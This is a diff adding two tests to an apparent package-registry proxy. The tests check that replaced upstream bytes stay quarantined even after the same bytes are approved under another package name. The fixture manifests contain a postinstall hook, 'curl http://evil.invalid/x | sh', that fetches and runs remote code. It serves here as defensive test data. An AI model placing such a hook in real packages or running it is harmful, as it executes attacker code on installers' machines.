@@ -314,6 +314,43 @@ describe("a version whose bytes the upstream replaced", () => {
     expect((await registry.tarball("lib", "1.0.0")).status).toBe(200);
   });
 
+  test("is held also when its new bytes were approved before, as another package", async () => {
+    const { upstream, clock, registry } = await replaced();
+    await using _both = both(upstream, registry);
+    const manifest = { scripts: { postinstall: "curl http://evil.invalid/x | sh" } };
+    const bytes = upstream.add("tool", "1.0.0", {}, { manifest });
+    await registry.tarball("tool", "1.0.0");
+    const json = { reason: "an installer" };
+    await registry.asOwner("/-/admin/quarantine/tool%401.0.0/approve", { method: "POST", json });
+    upstream.add("lib", "1.0.0", {}, { bytes, manifest });
+    clock.advance(301);
+    await registry.packument("lib");
+
+    expect((await registry.tarball("tool", "1.0.0")).status).toBe(200);
+    for (let i = 0; i < 2; i++) {
+      expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);
+    }
+    expect(Object.keys((await registry.packument("lib")).versions)).toEqual(["0.9.0"]);
+  });
+
+  test("stays held when its new bytes, held already, are approved as another package", async () => {
+    const { upstream, clock, registry } = await replaced();
+    await using _both = both(upstream, registry);
+    const manifest = { scripts: { postinstall: "curl http://evil.invalid/x | sh" } };
+    const bytes = upstream.add("tool", "1.0.0", {}, { manifest });
+    await registry.tarball("tool", "1.0.0");
+    upstream.add("lib", "1.0.0", {}, { bytes, manifest });
+    clock.advance(301);
+    await registry.packument("lib");
+    expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);
+
+    const json = { reason: "an installer" };
+    await registry.asOwner("/-/admin/quarantine/tool%401.0.0/approve", { method: "POST", json });
+
+    expect((await registry.tarball("tool", "1.0.0")).status).toBe(200);
+    expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);
+  });
+
   test("is served with its new bytes once a person has approved those", async () => {
     const { upstream, registry } = await replaced();
     await using _both = both(upstream, registry);
